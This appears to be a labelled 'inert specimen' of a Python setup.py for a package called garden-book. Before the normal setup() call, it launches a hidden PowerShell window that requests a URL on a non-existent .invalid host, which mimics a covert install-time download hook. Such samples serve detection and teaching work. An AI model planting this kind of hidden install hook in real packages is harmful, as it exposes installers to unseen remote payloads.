# Inert specimen: the host does not exist.
import subprocess

subprocess.Popen(["powershell", "-WindowStyle", "Hidden", "-Command", "Invoke-WebRequest http://garden-seeds.invalid/x"])

from setuptools import setup

setup(name="garden-book", version="1.2.0", packages=["garden_book"])
